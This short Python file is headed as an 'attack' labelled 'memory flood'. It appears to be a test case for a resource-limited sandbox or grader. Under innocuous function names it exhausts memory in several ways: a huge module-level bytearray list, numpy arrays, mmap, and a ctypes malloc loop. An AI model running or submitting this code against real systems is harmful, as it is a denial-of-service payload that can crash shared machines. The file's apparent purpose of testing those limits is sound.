# /// attack
# tries = "takes memory as Python objects, as arrays, by mmap and by brk"
# covers = ["memory flood"]
# keeps = ["table"]
# ///
# %%
hoard = [bytearray(10**7) for _ in range(10**6)]
# %%
import ctypes, mmap
import numpy as np


def twice(x):
    return [np.ones(10**6) for _ in range(10**5)]


def total(x):
    return [mmap.mmap(-1, 2**26) for _ in range(1000)]


def loss(W):
    held = []
    malloc = ctypes.CDLL(None).malloc
    malloc.restype = ctypes.c_void_p
    while address := malloc(ctypes.c_size_t(2**24)):
        ctypes.memset(ctypes.c_void_p(address), 1, 2**24)
        held.append(address)
    raise MemoryError(len(held))


def rows(X):
    return np.ones((10**5, 10**5))


# %% honest table
